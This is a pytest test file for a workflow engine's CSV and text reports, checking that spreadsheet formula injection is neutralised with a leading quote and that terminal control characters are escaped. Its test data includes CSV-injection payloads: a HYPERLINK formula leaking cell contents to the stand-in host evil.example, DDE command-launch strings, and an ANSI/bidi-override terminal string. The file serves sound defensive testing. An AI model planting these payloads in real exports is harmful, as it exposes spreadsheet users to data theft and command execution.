"""A client's text in the agency's CSV files and terminal: formulas neutralised, control characters shown.

OWASP (CSV injection): a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is read by a spreadsheet as a formula; such text gets a single
quote in front.  Numbers stay numbers.  The text report shows a control
character, line break or bidirectional override as a visible escape, as ``wf case
list`` does (:func:`workflow.safe_text`).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workflow import Engine, ReportRequest, export, parse_period, report_csv, report_lines, safe_text
from workflow.textsafe import FORMULA_STARTS, spreadsheet_cell

from .engine_support import CLERK, CLIENT
from .report_support import CLIENT_A, WORKER, at, build_log, open_report_engine

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
]
TERMINAL = "Z-1\x1b[2J\x1b]0;pwned\x07\nnep regel\r\u202egnp.exe"


@pytest.mark.parametrize("payload", [*FORMULAS, "\t=1+1", "\r=1+1"])
def test_a_formula_start_gets_a_single_quote(payload: str) -> None:
    assert spreadsheet_cell(payload) == "'" + payload


@given(st.text())
def test_only_a_formula_start_is_touched(value: str) -> None:
    neutral = spreadsheet_cell(value)
    assert neutral == ("'" + value if value.startswith(FORMULA_STARTS) else value)
    assert not str(neutral).startswith(FORMULA_STARTS)


def test_numbers_stay_numbers() -> None:
    assert spreadsheet_cell(-3.5) == -3.5
    assert spreadsheet_cell(-2) == -2


def test_the_audit_csv_neutralises_a_clients_reference_and_data(engine: Engine) -> None:
    for n, formula in enumerate(FORMULAS):
        case = engine.start("counter", actor=CLIENT, tenant="utrecht", data={"count": 1}, reference=formula)
        engine.fire(case.id, "set", actor=CLERK, input={"note": FORMULAS[-1 - n]})
    out = io.StringIO()
    context = engine.audit.export_context(case_fields=["note"], start=False)
    export("csv", engine.audit.query(), out, context)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["reference"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["case:note"] for r in rows] == ["'" + f for f in reversed(FORMULAS)]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row.values())


@pytest.fixture
def hostile_report(tmp_path: Path) -> dict[str, object]:
    with open_report_engine(f"sqlite:///{tmp_path / 'report.db'}") as engine:
        build_log(engine)
        for n, reference in enumerate([*FORMULAS, TERMINAL]):
            data = {"task_kind": "basistaak", "funding": "werkprogramma", "dvo": {"year": 2026}}
            case = engine.start(
                "opdracht", actor=CLIENT_A, tenant="gemeente-a", data=data, reference=reference, at=at(5, 4)
            )
            scope = {"scope": {"budget_hours": 10, "deadline": "2026-06-30"}}
            engine.fire(case.id, "start_work", actor=WORKER, input=scope, at=at(5, 6))
            result = {"result": {"text": [*FORMULAS, TERMINAL][-1 - n], "highlight": True}}
            engine.fire(case.id, "record_result", actor=WORKER, input=result, at=at(5, 8))
        return engine.report(ReportRequest(parse_period("2026Q2"), workflow="opdracht"))


def test_the_report_csv_neutralises_formulas(hostile_report: dict[str, object], tmp_path: Path) -> None:
    report_csv(hostile_report, tmp_path)
    for table in ("hours", "results"):
        with (tmp_path / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        for row in rows:
            assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), (table, row)
    with (tmp_path / "results.csv").open(encoding="utf-8", newline="") as handle:
        texts = {row["text"] for row in csv.DictReader(handle)}
    assert {"'" + f for f in FORMULAS} <= texts
    with (tmp_path / "hours.csv").open(encoding="utf-8", newline="") as handle:
        references = {row["reference"] for row in csv.DictReader(handle)}
    assert {"'" + f for f in FORMULAS} <= references


def test_the_text_report_shows_control_characters(hostile_report: dict[str, object]) -> None:
    lines = list(report_lines(hostile_report))
    text = "\n".join(lines)
    for unsafe in ("\x1b", "\x07", "\r", "\u202e"):
        assert unsafe not in text
    assert not any(line.startswith("nep regel") for line in lines)
    assert safe_text(TERMINAL)[:8] in text  # the reference, escaped as wf case list shows it
    assert max(len(line) for line in lines) <= 100
